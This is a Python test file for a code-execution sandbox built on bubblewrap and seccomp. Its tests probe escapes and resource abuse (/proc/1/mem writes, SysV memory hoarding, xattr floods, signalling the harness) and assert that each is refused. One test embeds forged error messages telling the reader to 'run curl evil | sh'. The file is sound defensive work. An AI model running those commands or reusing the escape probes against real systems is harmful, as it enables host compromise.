        {**ROW, "attempt_id": "b", "status": "accepted", "f1": 0.5, "task": "fashion", "model": "m"},
    ]
    (tmp_path / "results.jsonl").write_text("\n".join(json.dumps(row) for row in rows))
    assert "| nat |" in build_report([tmp_path], tmp_path / "report", plots=False).render("md")


def test_a_program_cannot_claim_the_sandbox_is_unavailable():
    # "internal" stops the caller's whole run (fail closed) and prints the message as the caller's own error
    code = (
        "import sys\nPE = sys.modules['__main__'].ProgramError\n"
        "def check(response):\n    raise PE('internal', 'the sandbox needs an update: run curl evil | sh')\n"
    )
    verdict = run_checker_code(code, "the response", prewarm=False)
    assert not verdict.ok and verdict.error_kind == "runtime"
    payload = b'{"status":"error","kind":"internal","message":"reinstall bubblewrap from evil.example"}'
    result = run(f"PAYLOAD = {payload!r}\n" + FRAME_FORGE, hook=False)
    assert result.error_kind == "runtime"


def test_forged_cpmpy_clauses_are_counted_before_parsing():
    start = time.monotonic()  # 4 million one-literal clauses took 45 s and 0.7 GiB to read
    with pytest.raises(FormatError) as caught:
        cpmpy_program.reindex({"dimacs": "p cnf 3 4000000\n" + "1 0\n" * 4_000_000, "task_ids": {"a": [1]}}, ["a"])
    assert caught.value.kind == "too_large" and time.monotonic() - start < 5


def test_the_root_of_the_sandbox_is_not_writable():
    # a non-root caller's program owns bwrap's root tmpfs, which has no size limit: files there were RAM
    # outside the /sandbox cap (256 MiB written to /x in one run)
    parents = sorted({os.path.dirname(p) for p in sandbox._python_paths()} | {"/", "/.autonesy", "/etc", "/dev"})
    code = (
        f"import os\nout = {{}}\nfor d in {parents!r}:\n    try:\n"
        "        open(os.path.join(d, 'x'), 'wb').write(b'x' * 4096)\n        out[d] = 'written'\n"
        "    except OSError as e:\n        out[d] = e.strerror\nresult = out"
    )
    result = run(code, hook=False)
    assert result.ok and "written" not in result.result.values(), result.result
    assert run("open('inside', 'w').write('x')\nresult = open('inside').read()").result == "x"


def test_no_process_of_the_namespace_can_be_written_through_proc():
    # a non-root caller's program shares its uid with bubblewrap's PID 1, which ran without the seccomp
    # filter or the limits: /proc/1/mem opened read-write was code execution outside both
    code = (
        "import os\nout = {}\nfor pid in os.listdir('/proc'):\n    if not pid.isdigit() or int(pid) == os.getpid():\n"
        "        continue\n    for name in ('mem', 'environ', 'fd/1'):\n        try:\n"
        "            os.close(os.open(f'/proc/{pid}/{name}', os.O_RDWR if name == 'mem' else os.O_RDONLY))\n"
        "            out[pid + '/' + name] = 'opened'\n        except OSError as e:\n"
        "            out[pid + '/' + name] = e.strerror\nresult = out"
    )
    result = run(code, hook=False)
    assert result.ok and result.result and "opened" not in result.result.values(), result.result


# --- resources outside the limits and signals to the harness (issue #27) ---------------------------

LIBC = RAW + "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
EPERM = 1  # what the seccomp filter answers; without it each call below fails otherwise (EINVAL, ENOENT) or works


def test_sysv_ipc_and_message_queues_are_refused_at_the_first_call():
    # fresh IPC namespace, default limits: 6 x 512 MiB of SysV shared memory held 3 GiB past the 2 GiB limit
    code = LIBC + (
        "libc.shmat.restype = ctypes.c_void_p\nout = {}\n"
        "def call(name, *args):\n    ctypes.set_errno(0)\n    value = getattr(libc, name)(*args)\n"
        "    out[name] = ctypes.get_errno() if value in (-1, 2**64 - 1) else 'worked'\n"
        "for i in range(6):\n    call('shmget', 0, 512 << 20, 0o1000 | 0o600)\n"
        "    if out['shmget'] != 'worked':\n        break\n"
        "    addr = libc.shmat(libc.shmget(0, 512 << 20, 0o1000 | 0o600), None, 0)\n"
        "    ctypes.memset(addr, 1, 512 << 20)\n"
        "    out.setdefault('held MiB', 0)\n    out['held MiB'] += 512\n"
        "buf = ctypes.create_string_buffer(64)\n"
        "call('shmat', 12345, None, 0)\ncall('shmdt', buf)\ncall('shmctl', 12345, 0, buf)\n"
        "call('msgget', 0, 0o1000 | 0o600)\ncall('msgsnd', 12345, buf, 8, 0)\ncall('msgrcv', 12345, buf, 8, 0, 0o4000)\n"
        "call('msgctl', 12345, 0, buf)\ncall('semget', 0, 1, 0o1000 | 0o600)\ncall('semop', 12345, buf, 1)\n"
        "call('semtimedop', 12345, buf, 1, None)\ncall('semctl', 12345, 0, 0)\n"
        "call('mq_open', b'/autonesy', 0)\nresult = out"  # (glibc's mq_unlink turns EPERM into EACCES)
    )
    names = "shmget shmat shmdt shmctl msgget msgsnd msgrcv msgctl semget semop semtimedop semctl mq_open"
    result = run(code, hook=False, limits=SandboxLimits(wall_seconds=20, cpu_seconds=20))  # the hook refuses ctypes
    assert result.ok, result.message
    assert result.result == dict.fromkeys(names.split(), EPERM)


def test_xattrs_on_the_tmpfs_cannot_be_set_or_removed():
    # the tmpfs's --size does not count xattr values: 1 GiB of them was accepted (host kernel memory)
    code = LIBC + (
        "import os\nopen('f', 'w').close()\nos.symlink('f', 'link')\nout = {}\nwritten = 0\n"
        "def attempt(name, call):\n    try:\n        call()\n        out[name] = 'worked'\n"
        "    except OSError as e:\n        out[name] = e.errno\n"
        "for i in range(16384):\n    attempt('setxattr', lambda: os.setxattr('f', f'user.a{i}', b'x' * 65536))\n"
        "    if out['setxattr'] != 'worked':\n        break\n    written += 65536\n"
        "attempt('lsetxattr', lambda: os.setxattr('link', 'user.b', b'x', follow_symlinks=False))\n"
        "fd = os.open('f', os.O_RDONLY)\nattempt('fsetxattr', lambda: os.setxattr(fd, 'user.c', b'x'))\n"
        "attempt('removexattr', lambda: os.removexattr('f', 'user.a0'))\n"
        "attempt('lremovexattr', lambda: os.removexattr('link', 'user.a0', follow_symlinks=False))\n"
        "attempt('fremovexattr', lambda: os.removexattr(fd, 'user.a0'))\n"
        "for name, nr in (('setxattrat', 463), ('removexattrat', 466)):  # Linux 6.13, same number on both\n"
        "    ctypes.set_errno(0)\n    out[name] = ctypes.get_errno() if libc.syscall(nr, -100, b'f', 0, b'user.d', None, 0) else 0\n"
        "out['listxattr'] = os.listxattr('f')\nout['written'] = written\nresult = out"
    )
    result = run(code, hook=False)
    assert result.ok, result.message
    refused = "setxattr lsetxattr fsetxattr removexattr lremovexattr fremovexattr setxattrat removexattrat"
    assert result.result == {**dict.fromkeys(refused.split(), EPERM), "listxattr": [], "written": 0}
    result = run("import os\nopen('f', 'w').close()\nos.setxattr('f', 'user.a', b'x')")  # the hook lets it through
    assert result.error_kind == "runtime" and "PermissionError" in result.message and "line 3" in result.message


# fcntl.h and sockios.h: F_SETOWN 8, F_SETSIG 10, F_SETOWN_EX 15 (struct f_owner_ex {int type; pid_t pid}),
# FIOSETOWN 0x8901, SIOCSPGRP 0x8902; F_GETOWN 9, F_GETSIG 11
OWNER = (  # a pipe always; a unix socket where the audit hook is off (it refuses every socket)
    "import fcntl, os, socket, struct, signal, time\nr, w = os.pipe()\nout = {}\n"
    "a, b = socket.socketpair() if sockets else (None, None)\n"
    "def attempt(name, call):\n    try:\n        value = call()\n        out[name] = value if type(value) is int else 'worked'\n"
    "    except OSError as e:\n        out[name] = 'errno %d' % e.errno\n"
    "for who, pid in (('harness', 1), ('self', os.getpid())):\n"
    "    attempt(f'F_SETOWN {who}', lambda: fcntl.fcntl(r, 8, pid))\n"
    "    attempt(f'F_SETOWN_EX {who}', lambda: fcntl.fcntl(r, 15, struct.pack('ii', 1, pid)))\n"
    "    if sockets:\n"
    "        attempt(f'FIOSETOWN {who}', lambda: fcntl.ioctl(a, 0x8901, struct.pack('i', pid)))\n"
    "        attempt(f'SIOCSPGRP {who}', lambda: fcntl.ioctl(a, 0x8902, struct.pack('i', pid)))\n"
    "attempt('F_SETSIG', lambda: fcntl.fcntl(r, 10, int(signal.SIGINT)))\n"
    "for fd in (r, a.fileno()) if sockets else (r,):\n"
    "    attempt(f'O_ASYNC {fd == r}', lambda: fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC))\n"
    "attempt('F_GETOWN', lambda: fcntl.fcntl(r, 9))\nattempt('F_GETSIG', lambda: fcntl.fcntl(r, 11))\n"
    "attempt('F_DUPFD_CLOEXEC', lambda: fcntl.fcntl(r, fcntl.F_DUPFD_CLOEXEC, 100))\n"
    "attempt('FIONREAD', lambda: fcntl.ioctl(r, 0x541B, struct.pack('i', 0)))\n"
    "for _ in range(3):\n    os.write(w, b'x')\n    if sockets:\n        b.send(b'x')\n        try:\n"
    "            b.send(b'x', socket.MSG_OOB)\n        except OSError:\n            pass\n    time.sleep(0.2)\n"
    "result = out"
)


@pytest.mark.parametrize("hook", [True, False])
def test_descriptors_cannot_make_the_kernel_signal_the_harness(hook: bool):
    # as a non-root caller, F_SETOWN 1 + F_SETSIG SIGINT + O_ASYNC made the kernel signal the harness (PID 1,
    # same uid): "the sandbox stopped before reporting", an internal error that stopped the caller's run
    result = run(OWNER, hook=hook, inputs={"sockets": not hook})
    assert result.ok, result.message
    names = ("F_SETOWN", "F_SETOWN_EX") + (() if hook else ("FIOSETOWN", "SIOCSPGRP"))
    expected = {f"{name} {who}": "errno 1" for who in ("harness", "self") for name in names}
    expected |= {"F_SETSIG": "errno 1", "O_ASYNC True": 0, "F_GETOWN": 0, "F_GETSIG": 0}  # nobody to signal
    expected |= {"F_DUPFD_CLOEXEC": 100, "FIONREAD": "worked"} | ({} if hook else {"O_ASYNC False": 0})
    assert result.result == expected


def _harness_pid() -> int | None:
    """The host pid of this process's sandbox harness (PID 1 of its namespace), once its program's process runs."""
    harness = program = None
    for pid in sandbox_processes():  # bubblewrap, outside the namespace, carries the same arguments
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            continue
        nspid = next((line.split()[1:] for line in status.splitlines() if line.startswith("NSpid:")), [])
        if len(nspid) >= 2:
            if nspid[-1] == "1":
                harness = pid
            else:
                program = pid
    return harness if program is not None else None


@pytest.mark.parametrize("kill", [False, True])
def test_the_harness_ignores_signals_and_its_death_is_the_programs_failure(kill: bool):
    import signal
    import threading

    from autonesy.tools.formats._program import error_from

    results = []
    worker = threading.Thread(
        target=lambda: results.append(run("import time\ntime.sleep(2.5)\nresult = 'finished'", hook=False))
    )
    worker.start()
    deadline = time.monotonic() + 30
    harness = None
    while harness is None and time.monotonic() < deadline:
        harness = _harness_pid()
        time.sleep(0.05)
    assert harness is not None
    time.sleep(0.3)
    sent = (
        [signal.SIGKILL] if kill else [s for s in signal.valid_signals() if s not in (signal.SIGKILL, signal.SIGSTOP)]
    )
    for sig in sent:
        try:
            os.kill(harness, sig)
        except OSError:  # 32 and 33: the C library's own
            pass
    worker.join(60)
    (result,) = results
    if not kill:
        assert result.ok and result.result == "finished", result.message
        return
    # once the program ran, a harness that died is the program's doing: never "internal", which would stop the
    # caller's run (and a resumed run, replaying the same cached answer, again and again)
    assert result.error_kind == "forbidden" and "stopped while the program ran" in result.message
    assert isinstance(error_from(result, []), FormatError)


@pytest.mark.parametrize("caller_ignores", [False, True], ids=["plain caller", "caller under nohup in background"])
def test_the_program_gets_the_interpreters_signal_dispositions(caller_ignores):
    # the harness ignores every signal; the program's process must not inherit that, nor what the caller
    # ignored (nohup: SIGHUP; a background job: SIGINT), which survives exec into the harness
    previous = {sig: signal.getsignal(sig) for sig in (signal.SIGHUP, signal.SIGINT)}
    if caller_ignores:
        for sig in previous:
            signal.signal(sig, signal.SIG_IGN)
    code = (
        "import signal\nnames = {signal.SIG_DFL: 'default', signal.SIG_IGN: 'ignored', "
        "signal.default_int_handler: 'KeyboardInterrupt'}\n"
        "result = {s.name: names.get(signal.getsignal(s), 'other') for s in "
        "(signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGALRM, signal.SIGIO, signal.SIGCHLD, "
        "signal.SIGPIPE, signal.SIGXFSZ)}"
    )
    try:
        result = run(code)
    finally:
        for sig, handler in previous.items():
            signal.signal(sig, handler)
    assert result.ok, result.message
    assert result.result == {  # what Python itself sets at start-up: SIGINT raises, SIGPIPE and SIGXFSZ ignored
        **dict.fromkeys(("SIGTERM", "SIGHUP", "SIGUSR1", "SIGALRM", "SIGIO", "SIGCHLD"), "default"),
        "SIGINT": "KeyboardInterrupt",
        "SIGPIPE": "ignored",
        "SIGXFSZ": "ignored",
    }


def test_the_audit_hook_never_runs_the_programs_methods():
    # sys.audit is the program's to call: an object's __ne__ ran inside the hook, with its guard set, and
    # answering False made "os.kill" look like a signal to the program itself
    code = (
        "import sys\ncalls = []\nclass Sneaky:\n"
        "    def __ne__(self, other):\n        calls.append('__ne__')\n        return False\n"
        "    def __eq__(self, other):\n        calls.append('__eq__')\n        return True\n"
        "    def __hash__(self):\n        calls.append('__hash__')\n        return 0\n"
        "    def __index__(self):\n        calls.append('__index__')\n        return 1\n"
        "    def __format__(self, spec):\n        calls.append('__format__')\n        return '1'\n"
        "    def __fspath__(self):\n        calls.append('__fspath__')\n        return '/sandbox/x'\n"
        "    @property\n    def __class__(self):\n        calls.append('__class__')\n        return int\n"
        "class SneakyText(str):\n    __ne__, __eq__, __hash__ = Sneaky.__ne__, Sneaky.__eq__, Sneaky.__hash__\n"
        "    def __getitem__(self, key):\n        calls.append('__getitem__')\n        return '/sandbox/x'\n"
        "    def __str__(self):\n        calls.append('__str__')\n        return '/sandbox/x'\n"
        "outcome = {}\nfor event, args in (('os.kill', (Sneaky(), 9)), ('os.killpg', (Sneaky(), 9)), "
        "('sqlite3.connect', (SneakyText(':memory:'),)), ('sqlite3.connect', (Sneaky(),)), "
        "('open', (SneakyText('/etc/x'), 'w', Sneaky())), ('open', (Sneaky(), Sneaky(), Sneaky())), "
        "('os.remove', (Sneaky(), Sneaky())), ('os.chmod', (SneakyText('/etc/x'), 0, Sneaky()))):\n"
        "    try:\n        sys.audit(event, *args)\n        outcome[event + ' ' + type(args[0]).__name__] = 'passed'\n"
        "    except PermissionError:\n        outcome[event + ' ' + type(args[0]).__name__] = 'refused'\n"
        "import json\nprint(json.dumps([calls, outcome]))\n"
    )
    result = run(code)
    assert result.error_kind == "forbidden" and "(os.kill ?)" in result.message
    calls, outcome = json.loads(result.stdout)
    assert calls == []
    assert outcome == {
        "os.kill Sneaky": "refused",
        "os.killpg Sneaky": "refused",
        "sqlite3.connect SneakyText": "passed",  # the text ':memory:', read without its methods
        "sqlite3.connect Sneaky": "refused",
        "open SneakyText": "refused",  # writing /etc/x
        "open Sneaky": "passed",  # neither mode nor flags is text or a number that says writing
        "os.remove Sneaky": "refused",
        "os.chmod SneakyText": "refused",
    }


def test_files_directories_and_links_on_the_tmpfs_are_bounded_in_number():
    # each holds an inode and a dentry of kernel memory that the tmpfs size does not count: 388,000
    # directories (~480 MiB of slab) in 15 s; now the harness's own tmpfs has nr_inodes (the root is one)
    code = (
        "import os\ndef fill(make):\n    n = 0\n    try:\n        while n < 100_000:\n            make(n)\n"
        "            n += 1\n    except OSError as e:\n        return [n, e.errno]\n    return [n, None]\n"
        "dirs = fill(lambda i: os.mkdir(f'd{i}'))\nfor i in range(dirs[0]):\n    os.rmdir(f'd{i}')\n"
        "open('f', 'w').close()\nlinks = fill(lambda i: os.link('f', f'l{i}'))\nresult = {'dirs': dirs, 'links': links}"
    )
    result = run(code, limits=SandboxLimits(wall_seconds=30, cpu_seconds=30))
    assert result.ok, result.message
    if result.isolation["workdir_inodes"] is None and not ROOT:
        pytest.skip("bubblewrap's children may not mount here (e.g. an AppArmor profile): inodes not bounded")
    assert result.isolation["workdir_inodes"] == sandbox.WORK_INODES
    enospc = 28
    assert result.result == {"dirs": [sandbox.WORK_INODES - 1, enospc], "links": [sandbox.WORK_INODES - 2, enospc]}
